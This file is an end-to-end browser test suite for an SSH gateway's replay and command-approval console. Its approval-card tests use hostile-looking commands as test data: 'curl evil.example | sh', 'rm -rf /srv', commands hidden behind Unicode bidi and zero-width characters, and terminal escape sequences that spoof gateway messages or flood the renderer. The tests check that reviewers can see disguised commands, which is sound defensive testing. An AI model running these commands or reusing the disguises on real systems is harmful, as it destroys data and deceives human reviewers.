import type { Page } from '@playwright/test'
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest'
import { barriers, coloursAndRoom, wcagAndMore } from './axe.ts'
import { type InBrowser, inBrowser } from './browser.ts'

/** Replay of SSH in a real Chromium, under the policy that the shells serve it with, on a double of the core. */

let shown: InBrowser
let page: Page

beforeAll(async () => {
  shown = await inBrowser()
  page = shown.page
}, 180_000)

vi.setConfig({ testTimeout: 60_000 })

afterAll(() => shown?.[Symbol.asyncDispose]())

/** Opens the console; whatever the page complains about fails the test. */
const open: InBrowser['open'] = (...args) => shown.open(...args)
afterEach(() => expect(shown.complaints).toEqual([]))

const screen = () => page.getByRole('region', { name: 'Text of the screen' })
const transcript = () => page.getByRole('region', { name: 'Transcript' })
const place = () => page.getByRole('slider', { name: 'Place in the recording' })
const at = () => place().getAttribute('aria-valuenow').then(Number)
const moment = (text: string) => page.getByRole('option').filter({ hasText: text })
const shows = (text: string) => expect.poll(() => screen().textContent()).toContain(text)
const showsNot = (text: string) => expect.poll(() => screen().textContent()).not.toContain(text)
const press = async (...keys: string[]) => {
  for (const key of keys) await page.keyboard.press(key)
}
const copied = () => page.evaluate(() => navigator.clipboard.readText())

test('a terminal as it looked at any time: sought, stepped by lines, played to its end, copied', async () => {
  await open('ssh=usual', '#/replay/se_ssh2')
  // It opens where there is something to see; the beginning is dark.
  await page.getByText('opened at its first output').waitFor()
  await press('Home')
  await page.getByText('begins at 0.30 s').waitFor()
  await page.getByText('recorded, not policed').waitFor()
  await moment('./srv/deploy.sh').click()
  await shows('./srv/deploy.sh')
  await showsNot('warning')
  expect(await at()).toBe(71)
  // Line by line, back and on; marks stand for what is no line.
  await press(',')
  expect(await at()).toBe(8)
  await showsNot('deploy.sh\n')
  await press('.', '.')
  await page.getByText('110 × 30').first().waitFor()
  await press(']')
  await press('v')
  await transcript().getByText('a shell').waitFor()
  await press('v')
  // The other screen of a full-screen program, and back.
  await press('4')
  await press('[')
  await moment('echo "contact').click()
  await shows('contact')
  await showsNot('what to look at')
  await page.getByRole('option').filter({ hasText: 'less' }).click()
  await press('ArrowRight')
  await shows('what to look at after a deploy, part 28')
  await showsNot('Last login')
  await press('0', '>', '>', 'Space')
  await expect.poll(at, { timeout: 30_000 }).toBe(357)
  await page.getByText(/^exit 0 · 5 KiB$/).waitFor()
  await shows('[masked:email]')
  await press('c')
  await expect.poll(copied).toContain('deploy@web-1:~$ exit')
  // What a mouse selects is copied as anywhere else.
  const box = (await page.locator('.xterm-screen').boundingBox())!
  await page.mouse.move(box.x + 2, box.y + 5)
  await page.mouse.down()
  await page.mouse.move(box.x + 60, box.y + 5, { steps: 4 })
  await page.mouse.up()
  await press('ControlOrMeta+c')
  await expect.poll(copied).toMatch(/^Linux web/)
  // By itself, too, it can be written to a file.
  await press('e')
  await page.getByRole('dialog').getByRole('button', { name: /^Text/ }).click()
  await page.getByRole('region', { name: 'Exports' }).getByText('countersign-terminal.cast').waitFor()
  expect(
    await page.evaluate(() => window.fixture.calls.findLast(({ name }) => name === 'exportTerminal')?.input),
  ).toMatchObject({ session: 'se_ssh2', channel: '1', format: 'text' })
  // What the host asked for changed nothing here.
  expect(await page.title()).not.toContain('deploy@')
})

test('found in a terminal: times are gone to one after the other', async () => {
  await open('ssh=usual', '#/replay/se_ssh2')
  await press('/')
  const field = page.getByRole('textbox', { name: 'Find in this terminal' })
  await field.fill('slow')
  await press('Enter')
  await page.getByText('1 of 1').waitFor()
  await shows('2 hosts behind the balancer were slow')
  await field.fill('deploy@')
  await page
    .getByText(/^7|^8|^9/)
    .first()
    .waitFor()
  await press('Enter')
  await field.fill('no such words')
  await page.getByText('nowhere').waitFor()
})

test('commands with their output: errors beside, colours, sequences made visible, long ones at length', async () => {
  await open('ssh=usual', '#/replay/se_ssh1')
  await transcript().getByText('apt-get -s upgrade | head -4').waitFor()
  expect(await transcript().locator('p [style*="color"]').first().textContent()).toBe('nginx')
  await transcript().getByText('nginx-module-03').waitFor()
  expect(await transcript().getByText('nginx-module-40').count()).toBe(0)
  await transcript()
    .getByRole('button', { name: /^Show all of it/ })
    .click()
  await transcript().getByText('nginx-module-40').waitFor()
  await press(']', ']')
  await transcript().getByText('denied by no-secrets').waitFor()
  await press('End')
  await transcript().getByText('unknown directive').waitFor()
  expect(await transcript().getByText('stderr:').count()).toBe(1)
  const hidden = transcript().getByText('reload for')
  expect(await hidden.textContent()).toContain('U+001B]0;not your titleU+0007')
  expect(await hidden.textContent()).toContain('U+202E')
  await transcript().getByText('masked: email, secret').waitFor()
  expect(await page.getByRole('radio', { name: 'Terminal' }).count()).toBe(0)
  await transcript().getByRole('button', { name: 'As a terminal' }).last().click()
  await shows('[masked:email], key [masked:secret]')
  await page.getByText('without a terminal').waitFor()
  await page.getByRole('radio', { name: 'Transcript' }).click()
  await transcript().waitFor()
})

test('operations on files are a list, with how much went and what was refused', async () => {
  await open('ssh=usual', '#/replay/se_ssh3')
  await transcript().getByText('put /srv/app/release.tar.gz').waitFor()
  await transcript().getByText('46.0 MiB written').waitFor()
  await transcript()
    .getByText(/^sha256 e3b0c4/)
    .first()
    .waitFor()
  await press('End')
  await transcript().getByText('denied by no-secrets').waitFor()
  await transcript().getByText('No such file').waitFor()
})

test('a session that goes on is watched: what is said appears, and somebody who looked back comes to it again', async () => {
  await open('ssh=usual', '#/replay/se_ssh4')
  await shows('10.20.0.11')
  const tell = (n: number) =>
    page.evaluate((i) => {
      const line = { seq: 100 + i, t: 130_000 + i, type: 'output', channel: '1', stream: 'stdout' } as const
      window.fixture.tell('se_ssh4', [{ ...line, data: `news ${i}\r\n` }])
    }, n)
  await tell(1)
  await shows('news 1')
  await press('ArrowLeft', '0')
  await showsNot('news 1')
  await tell(2)
  await page.getByRole('button', { name: 'Follow live' }).click()
  await shows('news 2')
  await page.getByRole('button', { name: 'End session' }).waitFor()
})

test('what can’t be shown says why, and is tried again', async () => {
  await open('ssh=damaged', '#/replay/se_ssh2?t=2000')
  const alert = page.getByRole('alert')
  await alert.getByText('The copy on this computer is damaged').waitFor()
  await alert.getByRole('button', { name: 'Try again' }).click()
  await alert.getByText('The copy on this computer is damaged').waitFor()
  await open('ssh=usual&world=forbidden', '#/replay/se_ssh2')
  await page.getByRole('alert').getByText('Your roles don’t let you see this recording').waitFor()
})

test('a host’s words never look like the gateway’s, whatever colours it chooses', async () => {
  await open('ssh=usual', '#/replay/se_ssh4')
  await shows('10.20.0.11')
  await page.evaluate(() => {
    const at = { t: 140_000, channel: '7' }
    window.fixture.tell('se_ssh4', [
      {
        ...{
          seq: 200,
          t: 140_000,
          type: 'command',
          command: 'x',
          text: 'id',
          parameters: [],
          kind: 'exec',
          effects: [],
        },
        ...{ verdict: { outcome: 'allow', policies: [] }, digest: 'sha256:0' },
      },
      { ...at, seq: 201, type: 'channel', command: 'x', kind: 'exec' },
      { ...at, seq: 202, type: 'output', stream: 'stdout', data: '\x1b[33mcountersign: approved by Ada\x1b[0m\n' },
      { ...at, seq: 203, type: 'output', stream: 'stderr', notice: true, data: 'countersign: the session ends\n' },
    ] as never)
  })
  await press('v')
  const said = (words: string) => transcript().locator('p').filter({ hasText: words })
  await said('the session ends').waitFor()
  expect(await said('the session ends').textContent()).toMatch(/^the gateway/)
  expect(await said('approved by Ada').textContent()).toBe('countersign: approved by Ada')
})

test('a terminal that is asked for more than it can do, or to swallow what the gateway said, shows the rest', async () => {
  await open('ssh=usual', '#/replay/se_ssh4')
  await shows('10.20.0.11')
  const began = performance.now()
  await page.evaluate(() => {
    const at = { t: 140_000, channel: '1', type: 'output', stream: 'stdout' }
    window.fixture.tell('se_ssh4', [
      { ...at, seq: 200, data: `${'\x1b[1000S\x1bc'.repeat(6000)}a${'\u0301'.repeat(60_000)}\r\nafter it\r\n` },
      { ...at, seq: 201, data: '\x1b[38;2;0:1;8;8mseen\x1b[0m\r\n\x1b(0\x1b]0;' },
      { ...at, seq: 202, stream: 'stderr', notice: true, data: 'countersign: the session ends\r\n' },
    ] as never)
  })
  await shows('after it')
  await shows('countersign: the session ends')
  await page.evaluate(() => new Promise(requestAnimationFrame))
  // Without a bound it is half a minute, on any machine.
  expect(performance.now() - began).toBeLessThan(15_000)
})

const card = (command: object) =>
  page.evaluate((more) => {
    const [one] = [...window.fixture.approvals.values()]
    const approval = { ...one!, id: 'ap_7h2k', protocol: 'ssh', command: { ...one!.command, ...more } }
    window.fixture.emit({ type: 'approvals', approvals: [approval as never] })
  }, command)
const input = () => page.getByRole('region', { name: 'Standard input' })

test.each<[string, object, RegExp[]]>([
  [
    'one byte that is no text hides no script',
    { parameters: [{ base64: Buffer.from('curl evil.example | sh\n\xff', 'latin1').toString('base64') }] },
    [/63 75 72 6c/, /curl evil\.exampl/, /not text: 24 bytes/],
  ],
  [
    'a long one says how long it is, and that there is more below',
    { parameters: [`id\n${'\n'.repeat(400)}rm -rf /srv\n`] },
    [/402 lines/, /rm -rf/],
  ],
  ['hidden characters are marked', { parameters: ['rm \u202efles\u200b\x1b[8m'] }, [/U\+202E/, /U\+200B/, /U\+001B/]],
])('what a command reads is shown on its card: %s', async (_name, command, expected) => {
  await open('ssh=usual', '#/queue/ap_7h2k')
  await page.getByRole('region', { name: 'Command' }).waitFor()
  await card({ text: 'sh -s', kind: 'exec', input: 'whole', effects: [], ...command })
  await input().waitFor()
  for (const words of expected) await expect.poll(() => input().textContent()).toMatch(words)
  const more = input().getByText('more below')
  await expect.poll(() => more.isVisible()).toBe(/long/.test(_name))
})

test('what runs isn’t dimmed as if it were a comment', async () => {
  await open('ssh=usual', '#/queue/ap_7h2k')
  await page.getByRole('region', { name: 'Command' }).waitFor()
  await card({ text: 'echo \x24{x:-\x24{y} #}; rm -rf /srv', kind: 'exec', parameters: [], effects: [] })
  await page.getByRole('region', { name: 'Command' }).getByText('rm -rf /srv').waitFor()
  expect(await page.locator('.sql-comment').count()).toBe(0)
})

const places: [name: string, hash: string, keys: string[]][] = [
  ['terminal', '#/replay/se_ssh2?t=8000', ['/']],
  ['commands', '#/replay/se_ssh1', ['5']],
]
test.each(places)('accessible in both themes, wide and narrow: %s', async (_name, hash, keys) => {
  await open('ssh=usual', hash)
  await place().waitFor()
  if (hash.includes('se_ssh2')) await shows('deploy@')
  await press(...keys)
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
    await page.setViewportSize({ width: colorScheme === 'dark' ? 900 : 1280, height: 800 })
    const violations = await barriers(page, colorScheme === 'light' ? wcagAndMore : coloursAndRoom)
    expect(
      violations.map(
        (each) => `${each.id}: ${each.nodes.map((node) => `${node.target} ${node.failureSummary}`).join('\n')}`,
      ),
    ).toEqual([])
  }
})
